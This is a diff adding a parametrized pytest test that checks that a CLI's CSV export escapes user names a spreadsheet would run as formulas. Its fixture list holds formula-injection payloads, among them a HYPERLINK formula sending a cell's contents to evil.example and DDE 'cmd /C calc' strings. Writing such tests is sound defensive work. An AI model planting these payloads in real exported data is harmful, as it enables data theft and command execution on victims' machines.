@@ -305,6 +305,38 @@ def test_codes_without_out_go_to_stdout_in_name_order(runner, org, tmp_path):
     ]
 
 
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_codes_out_escapes_names_a_spreadsheet_would_run(runner, org, tmp_path, name):
+    assert run(runner, "import", write_csv(tmp_path, GOOD_ROWS)).exit_code == 0
+    siti = users()[SITI]
+    siti.full_name = name
+    db.session.commit()
+    out = tmp_path / "kode.csv"
+
+    assert run(runner, "codes", "--out", out).exit_code == 0
+
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
+    written = {row[0]: row for row in rows[1:]}
+    # The NIP keeps its leading digits; only the text that starts a formula is quoted.
+    assert written[SITI] == [
+        SITI,
+        "'" + name,
+        siti.activation_code,
+        str(siti.activation_expires_at.date()),
+    ]
+    assert written[BUDI][1] == "Budi Santoso"
+
+
 # --- XLSX -------------------------------------------------------------------------------------
 
 
